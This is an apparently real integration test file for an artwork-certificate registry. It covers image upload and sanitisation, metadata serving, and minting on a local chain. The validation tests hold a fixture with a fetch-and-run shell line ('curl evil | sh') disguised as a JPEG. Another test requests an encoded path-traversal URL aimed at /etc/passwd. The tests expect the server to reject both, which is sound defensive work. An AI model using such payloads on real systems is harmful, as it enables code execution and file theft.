import { createHash, randomBytes } from "node:crypto";
import fs from "node:fs";
import type { AddressInfo } from "node:net";
import path from "node:path";
import sharp from "sharp";
import { createPublicClient, createWalletClient, getAddress, http, type Address, type Hex } from "viem";
import { afterAll, beforeAll, expect, it } from "vitest";
import { artworkCertificateAbi } from "../../../deployments/abi/index.ts";
import { createArtworkRegistry } from "../../../server/src/artworks/artwork-registry.ts";
import { connectChain } from "../../../server/src/chain/chain.ts";
import { createLogger } from "../../../server/src/logger.ts";
import { readDeployment } from "../../../scripts/lib/deployment.ts";
import { LOCAL_CHAIN_ID } from "../../../scripts/lib/local-chain.ts";
import { describeEachDatabase } from "../../support/databases.ts";
import { startTestPlatform, type TestPlatform } from "../../support/platform.ts";
import { devAccount, signedInClient } from "../../support/sign-in.ts";
import { hasGpsTag, jpegWithGps, png, webp } from "./artwork-fixtures.ts";

const ISSUER = 0;
const STRANGER = 1;
const UNVERIFIED = 5;
const MAX_IMAGE_BYTES = 300_000;

const ARTWORK_FIELDS = `id issuer collection artist title year medium dimensions edition inscriptions description
  images { sha256 mimeType bytes width height url thumbnailSha256 thumbnailUrl }
  metadataJson metadataSha256 metadataCid metadataUrl tokenId mintTx mintedBlock createdAt`;
const REGISTER = `mutation($input: ArtworkInput!, $images: [File!]!) { registerArtwork(input: $input, images: $images) { ${ARTWORK_FIELDS} } }`;
const MINT_CALL = `query($id: ID!, $to: Address, $r: Address, $bps: Int) { artworkMintCall(id: $id, to: $to, royaltyReceiver: $r, royaltyBps: $bps) { to data value description } }`;
const RECORD_MINT = `mutation($id: ID!, $tx: String!) { recordArtworkMint(id: $id, txHash: $tx) { ${ARTWORK_FIELDS} } }`;

type Upload = { bytes: Uint8Array; name: string; type: string };

const INPUT = {
  artist: "Berthe Morisot", title: "Le Berceau", year: 1872, medium: "Oil on canvas", dimensions: "56 × 46 cm",
  inscriptions: "Signed lower left", description: "A mother watching her sleeping child.",
};

const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");

describeEachDatabase("artwork registry", (kind) => {
  let platform: TestPlatform;
  let gql: ReturnType<typeof signedInClient>["gql"];
  let as: ReturnType<typeof signedInClient>["as"];
  let openCollection: Address;
  let verifiedCollection: Address;
  const publicClient = () => createPublicClient({ transport: http(platform.chain.rpcUrl, { batch: false }), pollingInterval: 50 });
  let baseUrl: string;
  let close: () => void;

  beforeAll(async () => {
    platform = await startTestPlatform(kind, { FOLIO_ARTWORK_MAX_IMAGE_BYTES: String(MAX_IMAGE_BYTES) });
    ({ gql, as } = signedInClient(platform));
    const deployment = readDeployment(LOCAL_CHAIN_ID, platform.deploymentsDir)!;
    openCollection = getAddress(deployment.contracts.ArtworkCertificate!.address);
    verifiedCollection = getAddress(deployment.contracts.ArtworkCertificateVerifiedOwners!.address);
    const server = platform.app.app.listen(0, "127.0.0.1");
    await new Promise((r) => server.once("listening", r));
    baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    close = () => server.close();
  });
  afterAll(async () => {
    close?.();
    await platform?.close();
  });

  /** registerArtwork as a GraphQL multipart request (graphql-multipart-request-spec), one part per image. */
  async function register(index: number | null, input: Record<string, unknown>, images: Upload[]) {
    const form = new FormData();
    form.set("operations", JSON.stringify({ query: REGISTER, variables: { input, images: images.map(() => null) } }));
    form.set("map", JSON.stringify(Object.fromEntries(images.map((_, i) => [String(i), [`variables.images.${i}`]]))));
    images.forEach((image, i) => form.set(String(i), new Blob([new Uint8Array(image.bytes)], { type: image.type }), image.name));
    const response = await platform.app.yoga.fetch("http://folio.test/graphql", {
      method: "POST", body: form, headers: { ...(index === null ? {} : await as(index)), "graphql-require-preflight": "1" },
    });
    return response.json() as Promise<{ data?: any; errors?: any[] }>;
  }

  /** Rows of every artwork table, audit entries of the registry, and the files in the data directory. */
  async function snapshot() {
    const count = async (sql: string) => Number((await platform.db.query<{ n: string }>(sql)).rows[0]!.n);
    const root = path.join(platform.config.dataDir, "artworks");
    const files = fs.existsSync(root) ? (fs.readdirSync(root, { recursive: true }) as string[]).sort() : [];
    return {
      artworks: await count("select count(*)::text as n from artworks"),
      images: await count("select count(*)::text as n from artwork_images"),
      files: await count("select count(*)::text as n from artwork_files"),
      audit: await count("select count(*)::text as n from audit_log where action like 'artwork.%'"),
      disk: files,
    };
  }

  const jpeg = async () => ({ bytes: await jpegWithGps(), name: "photo.jpg", type: "image/jpeg" });

  let first: any;
  let mintHash: Hex;

  it("registers a work for an authorised issuer: images stored without EXIF or GPS, by their real type, with thumbnails", async () => {
    const scan = await png(90, 60);
    const result = await register(ISSUER, INPUT, [await jpeg(), { bytes: scan, name: "scan.jpg", type: "image/jpeg" }]);
    expect(result.errors).toBeUndefined();
    first = result.data.registerArtwork;
    expect(first).toMatchObject({ ...INPUT, issuer: devAccount(ISSUER).address, collection: openCollection, edition: null, tokenId: null, mintTx: null });
    // The PNG sent as scan.jpg with type image/jpeg is stored as what it is.
    expect(first.images.map((i: { mimeType: string }) => i.mimeType)).toEqual(["image/jpeg", "image/png"]);
    expect(first.images.map((i: { width: number; height: number }) => [i.width, i.height])).toEqual([[32, 64], [90, 60]]);

    const stored = platform.app.services.artworks.files;
    for (const image of first.images) {
      const bytes = (await stored.get(image.sha256))!;
      expect(sha256(bytes)).toBe(image.sha256);
      expect(bytes.length).toBe(image.bytes);
      const meta = await sharp(bytes).metadata();
      expect(meta.exif).toBeUndefined();
      expect(bytes.includes(Buffer.from("Someone"))).toBe(false);
      const thumbnail = (await stored.get(image.thumbnailSha256))!;
      expect((await sharp(thumbnail).metadata()).format).toBe("webp");
    }
    // The upload itself carried a GPS position.
    expect(hasGpsTag((await sharp(await jpegWithGps()).metadata()).exif!)).toBe(true);

    // The metadata names every image by its hash; its own hash and CID are what the record holds.
    const metadata = JSON.parse(first.metadataJson);
    expect(metadata).toMatchObject({ name: INPUT.title, description: INPUT.description, image: first.images[0].url, artist: INPUT.artist, year: 1872 });
    expect(metadata.images.map((i: { sha256: string }) => i.sha256)).toEqual(first.images.map((i: { sha256: string }) => i.sha256));
    expect(sha256(Buffer.from(first.metadataJson, "utf8"))).toBe(first.metadataSha256);
    expect(first.metadataCid).toMatch(/^bafkrei/);

    const read = await gql(null, `query($id: ID!) { artwork(id: $id) { ${ARTWORK_FIELDS} } }`, { id: first.id });
    expect(read.data!.artwork).toEqual(first);
    const audit = await platform.db.query<{ actor: string; target: string }>("select actor, target from audit_log where action = 'artwork.register'");
    expect(audit.rows).toEqual([{ actor: devAccount(ISSUER).address, target: first.id }]);
  });

  it("serves the exact canonical metadata, the images and thumbnails at stable immutable URLs, and 404 for anything else", async () => {
    const metadataPath = new URL(first.metadataUrl).pathname;
    expect(metadataPath).toBe(`/artworks/metadata/${first.metadataCid}.json`);
    const response = await fetch(`${baseUrl}${metadataPath}`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    const body = new Uint8Array(await response.arrayBuffer());
    expect(sha256(body)).toBe(first.metadataSha256);
    // Nothing about people: no wallet address in the document.
    expect(first.metadataJson).not.toMatch(/0x[0-9a-fA-F]{40}/);

    for (const image of first.images) {
      const served = await fetch(`${baseUrl}${new URL(image.url).pathname}`);
      expect(served.status).toBe(200);
      expect(served.headers.get("content-type")).toBe(image.mimeType);
      expect(served.headers.get("cache-control")).toContain("immutable");
      expect(sha256(new Uint8Array(await served.arrayBuffer()))).toBe(image.sha256);
      const thumbnail = await fetch(`${baseUrl}${new URL(image.thumbnailUrl).pathname}`);
      expect(thumbnail.headers.get("content-type")).toBe("image/webp");
      expect(sha256(new Uint8Array(await thumbnail.arrayBuffer()))).toBe(image.thumbnailSha256);
      // An image is not served as a thumbnail, nor a thumbnail as an image.
      expect((await fetch(`${baseUrl}/artworks/thumbnails/${image.sha256}`)).status).toBe(404);
      expect((await fetch(`${baseUrl}/artworks/images/${image.thumbnailSha256}`)).status).toBe(404);
    }
    for (const unknown of [
      `/artworks/metadata/bafkreihdwdcefgh4dqkjv67uzcmw7ojee6xedzdetojuzjevtenxquvyku.json`,
      `/artworks/metadata/${first.metadataCid}`,
      `/artworks/images/${"0".repeat(64)}`,
      `/artworks/images/..%2F..%2Fetc%2Fpasswd`,
      `/artworks/thumbnails/${first.metadataSha256}`,
    ]) {
      expect((await fetch(`${baseUrl}${unknown}`)).status, unknown).toBe(404);
    }
  });

  it("lists works newest first, by issuer, a page at a time", async () => {
    const second = (await register(ISSUER, { ...INPUT, title: "Second" }, [{ bytes: await webp(), name: "w.webp", type: "image/webp" }])).data!.registerArtwork;
    const page = await gql(null, `query($i: Address) { artworks(issuer: $i, first: 1) { edges { node { id } } pageInfo { hasNextPage endCursor } } }`, { i: devAccount(ISSUER).address });
    expect(page.data!.artworks.edges.map((e: { node: { id: string } }) => e.node.id)).toEqual([second.id]);
    expect(page.data!.artworks.pageInfo.hasNextPage).toBe(true);
    const next = await gql(null, `query($a: String) { artworks(first: 10, after: $a) { edges { node { id } } } }`, { a: page.data!.artworks.pageInfo.endCursor });
    expect(next.data!.artworks.edges.map((e: { node: { id: string } }) => e.node.id)).toEqual([first.id]);
    const none = await gql(null, `query($i: Address) { artworks(issuer: $i) { edges { node { id } } } }`, { i: devAccount(STRANGER).address });
    expect(none.data!.artworks.edges).toEqual([]);
  });

  it("stores an image uploaded again for another work once (deduplicated by content)", async () => {
    const before = await snapshot();
    const again = await register(ISSUER, { ...INPUT, title: "Le Berceau (study)" }, [await jpeg()]);
    expect(again.errors).toBeUndefined();
    expect(again.data!.registerArtwork.images[0].sha256).toBe(first.images[0].sha256);
    const after = await snapshot();
    expect(after.files).toBe(before.files);
    expect(after.disk).toEqual(before.disk);
    expect(after.artworks).toBe(before.artworks + 1);
  });

  it("registers the same work sent twice at once only once", async () => {
    const image = { bytes: await png(14, 14, "#0f0"), name: "twin.png", type: "image/png" };
    const results = await Promise.all([register(ISSUER, { ...INPUT, title: "Twin" }, [image]), register(ISSUER, { ...INPUT, title: "Twin" }, [image])]);
    const codes = results.map((r) => r.errors?.[0]?.extensions?.code ?? "ok").sort();
    expect(codes).toEqual(["ARTWORK_ALREADY_REGISTERED", "ok"]);
    expect((await platform.db.query("select id from artworks where title = 'Twin'")).rows).toHaveLength(1);
  });

  it("accepts the images as a multipart request over HTTP, through the server's body limits", async () => {
    const form = new FormData();
    form.set("operations", JSON.stringify({ query: REGISTER, variables: { input: { ...INPUT, title: "Over HTTP" }, images: [null] } }));
    form.set("map", JSON.stringify({ 0: ["variables.images.0"] }));
    // Larger than the plain-request limit (FOLIO_MAX_BODY_BYTES, 100 kB), within the image limit.
    const bytes = await sharp(randomBytes(200 * 200 * 3), { raw: { width: 200, height: 200, channels: 3 } }).png().toBuffer();
    expect(bytes.length).toBeGreaterThan(platform.config.maxBodyBytes);
    form.set("0", new Blob([new Uint8Array(bytes)], { type: "image/png" }), "over-http.png");
    const response = await fetch(`${baseUrl}/graphql`, { method: "POST", body: form, headers: { ...(await as(ISSUER)), "graphql-require-preflight": "1" } });
    const result = (await response.json()) as { data?: any; errors?: any[] };
    expect(result.errors).toBeUndefined();
    expect(result.data.registerArtwork.images[0]).toMatchObject({ mimeType: "image/png", width: 200, height: 200 });
  });

  it("mints from the issuer's wallet with artworkMintCall; the contract's token id and tokenURI are the metadata's SHA-256 and CID", async () => {
    const call = await gql(ISSUER, MINT_CALL, { id: first.id });
    expect(call.errors).toBeUndefined();
    const tx = call.data!.artworkMintCall;
    expect(tx.to).toBe(openCollection);
    const wallet = createWalletClient({ account: devAccount(ISSUER), transport: http(platform.chain.rpcUrl, { batch: false }) });
    const hash = await wallet.sendTransaction({ to: tx.to, data: tx.data as Hex, value: BigInt(tx.value), chain: null });
    const receipt = await publicClient().waitForTransactionReceipt({ hash });
    expect(receipt.status).toBe("success");
    mintHash = hash;

    const recorded = await gql(ISSUER, RECORD_MINT, { id: first.id, tx: hash });
    expect(recorded.errors).toBeUndefined();
    const tokenId = BigInt(`0x${first.metadataSha256}`);
    expect(recorded.data!.recordArtworkMint).toMatchObject({ tokenId: tokenId.toString(), mintTx: hash, mintedBlock: Number(receipt.blockNumber) });

    const read = <T>(functionName: "tokenURI" | "contentHashOf" | "ownerOf" | "issuerOf", args: readonly unknown[]) =>
      publicClient().readContract({ address: openCollection, abi: artworkCertificateAbi, functionName, args } as never) as Promise<T>;
    expect(await read<string>("tokenURI", [tokenId])).toBe(`ipfs://${first.metadataCid}`);
    expect(await read<string>("contentHashOf", [tokenId])).toBe(`0x${first.metadataSha256}`);
    expect(await read<string>("ownerOf", [tokenId])).toBe(devAccount(ISSUER).address);
    expect(await read<string>("issuerOf", [tokenId])).toBe(devAccount(ISSUER).address);

    // Recording the same mint again changes nothing; a mint call for a minted work is refused.
    expect((await gql(STRANGER, RECORD_MINT, { id: first.id, tx: hash })).data!.recordArtworkMint.mintTx).toBe(hash);
    expect((await gql(ISSUER, MINT_CALL, { id: first.id })).errors![0].extensions.code).toBe("ARTWORK_ALREADY_MINTED");
  });

  it("refuses to record a transaction that did not mint the work's certificate", async () => {
    const other = (await gql(null, `{ artworks(first: 1) { edges { node { id } } } }`)).data!.artworks.edges[0].node.id;
    const codeOf = async (tx: string) => (await gql(ISSUER, RECORD_MINT, { id: other, tx })).errors?.[0]?.extensions?.code;
    expect(await codeOf(mintHash)).toBe("ARTWORK_MINT_MISMATCH");
    // With FOLIO_CONFIRMATIONS above the blocks mined since, a mint waits.
    const patient = createArtworkRegistry({
      db: platform.db, chain: await connectChain(platform.config), config: platform.config.artworks, dataDir: platform.config.dataDir,
      publicUrl: platform.config.publicUrl, logger: createLogger("silent"), confirmations: 1000,
    });
    await expect(patient.recordMint(devAccount(ISSUER).address, other, mintHash)).rejects.toMatchObject({ code: "ARTWORK_MINT_UNCONFIRMED" });
    expect(await codeOf(`0x${"ab".repeat(32)}`)).toBe("ARTWORK_MINT_NOT_FOUND");
    expect(await codeOf("0x1234")).toBe("ARTWORK_TX_INVALID");
    // A mint that reverted: the same metadata again (ArtworkCertificateContentTaken), sent without a simulation.
    const wallet = createWalletClient({ account: devAccount(ISSUER), transport: http(platform.chain.rpcUrl, { batch: false }) });
    const replay = await publicClient().getTransaction({ hash: mintHash });
    const hash = await wallet.sendTransaction({ to: replay.to!, data: replay.input, gas: 300_000n, chain: null });
    expect((await publicClient().waitForTransactionReceipt({ hash })).status).toBe("reverted");
    expect(await codeOf(hash)).toBe("ARTWORK_MINT_FAILED");
    expect((await gql(ISSUER, `query($id: ID!) { artwork(id: $id) { tokenId mintTx } }`, { id: other })).data!.artwork).toEqual({ tokenId: null, mintTx: null });
  });

  it("checks the mint call as the contract would: only the issuer, the royalty within 10%, a recipient the collection accepts", async () => {
    const id = (await gql(null, `{ artworks(first: 1) { edges { node { id } } } }`)).data!.artworks.edges[0].node.id;
    const codeOf = async (index: number | null, variables: Record<string, unknown>) => (await gql(index, MINT_CALL, { id, ...variables })).errors?.[0]?.extensions?.code;
    expect(await codeOf(null, {})).toBe("UNAUTHENTICATED");
    expect(await codeOf(STRANGER, {})).toBe("FORBIDDEN");
    expect(await codeOf(ISSUER, { bps: 1001, r: devAccount(7).address })).toBe("ARTWORK_ROYALTY_INVALID");
    expect(await codeOf(ISSUER, { bps: 500 })).toBe("ARTWORK_ROYALTY_INVALID");
    expect(await codeOf(ISSUER, { r: devAccount(7).address })).toBe("ARTWORK_ROYALTY_INVALID");
    expect(await codeOf(ISSUER, { bps: 1000, r: devAccount(7).address, to: devAccount(UNVERIFIED).address })).toBeUndefined();
    expect(await codeOf(ISSUER, { id: "00000000-0000-4000-8000-000000000000" })).toBe("ARTWORK_NOT_FOUND");

    // In the verified-owners collection, an unverified wallet cannot be the first owner.
    const verified = await register(ISSUER, { ...INPUT, title: "Verified owners only", collection: verifiedCollection }, [{ bytes: await png(12, 12, "#abc"), name: "v.png", type: "image/png" }]);
    expect(verified.data!.registerArtwork.collection).toBe(verifiedCollection);
    const refused = await gql(ISSUER, MINT_CALL, { id: verified.data!.registerArtwork.id, to: devAccount(UNVERIFIED).address });
    expect(refused.errors![0].extensions.code).toBe("ARTWORK_RECIPIENT_INVALID");
  });

  it("refuses a wallet that the collection does not authorise as issuer, and anonymous callers, storing nothing", async () => {
    const before = await snapshot();
    const stranger = await register(STRANGER, { ...INPUT, title: "Not theirs" }, [await jpeg()]);
    expect(stranger.errors![0].extensions.code).toBe("FORBIDDEN");
    expect(stranger.errors![0].message).toContain("not an authorised issuer");
    expect((await register(null, { ...INPUT, title: "Nobody's" }, [await jpeg()])).errors![0].extensions.code).toBe("UNAUTHENTICATED");
    expect(await snapshot()).toEqual(before);
  });

  it("refuses every bad input with its code and stores nothing", async () => {
    const good = await png(16, 16, "#123");
    const ok = { bytes: good, name: "ok.png", type: "image/png" };
    const truncated = await png(200, 200, "#456");
    const noise = await sharp(randomBytes(400 * 400 * 3), { raw: { width: 400, height: 400, channels: 3 } }).png().toBuffer();
    expect(noise.length).toBeGreaterThan(MAX_IMAGE_BYTES);
    const cases: [string, Record<string, unknown>, Upload[]][] = [
      ["ARTWORK_FIELD_REQUIRED", { ...INPUT, artist: "   " }, [ok]],
      ["ARTWORK_FIELD_REQUIRED", { ...INPUT, description: "" }, [ok]],
      ["ARTWORK_FIELD_TOO_LONG", { ...INPUT, title: "x".repeat(301) }, [ok]],
      ["ARTWORK_FIELD_INVALID", { ...INPUT, title: "Two\nlines" }, [ok]],
      ["ARTWORK_FIELD_INVALID", { ...INPUT, medium: "Oil\u0000" }, [ok]],
      ["ARTWORK_YEAR_INVALID", { ...INPUT, year: new Date().getUTCFullYear() + 1 }, [ok]],
      ["ARTWORK_COLLECTION_UNKNOWN", { ...INPUT, collection: devAccount(3).address }, [ok]],
      ["ARTWORK_IMAGES_MISSING", INPUT, []],
      ["ARTWORK_TOO_MANY_IMAGES", { ...INPUT, title: "Many" }, Array.from({ length: 7 }, () => ok)],
      ["ARTWORK_IMAGE_TYPE", { ...INPUT, title: "Script" }, [{ bytes: Buffer.from("#!/bin/sh\ncurl evil | sh\n"), name: "photo.jpg", type: "image/jpeg" }]],
      ["ARTWORK_IMAGE_TYPE", { ...INPUT, title: "Text" }, [{ bytes: Buffer.from("just text"), name: "notes.png", type: "image/png" }]],
      ["ARTWORK_IMAGE_MALFORMED", { ...INPUT, title: "Truncated" }, [{ bytes: truncated.subarray(0, Math.floor(truncated.length / 2)), name: "cut.png", type: "image/png" }]],
      ["ARTWORK_IMAGE_TOO_LARGE", { ...INPUT, title: "Huge" }, [{ bytes: noise, name: "huge.png", type: "image/png" }]],
      ["ARTWORK_IMAGE_EMPTY", { ...INPUT, title: "Empty" }, [{ bytes: new Uint8Array(0), name: "empty.jpg", type: "image/jpeg" }]],
      ["ARTWORK_IMAGE_REPEATED", { ...INPUT, title: "Twice" }, [ok, ok]],
      // A good image after a bad one: nothing of either is stored.
      ["ARTWORK_IMAGE_MALFORMED", { ...INPUT, title: "Mixed" }, [ok, { bytes: truncated.subarray(0, 100), name: "cut.png", type: "image/png" }]],
      // The same details and images as a registered work: the same metadata, which the contract would refuse.
      ["ARTWORK_ALREADY_REGISTERED", INPUT, [await jpeg(), { bytes: await png(90, 60), name: "scan.jpg", type: "image/jpeg" }]],
    ];
    const before = await snapshot();
    for (const [code, input, images] of cases) {
      const result = await register(ISSUER, input, images);
      expect(result.errors?.[0]?.extensions?.code, `${code}: ${JSON.stringify(result.errors)}`).toBe(code);
    }
    expect(await snapshot()).toEqual(before);
  });
});
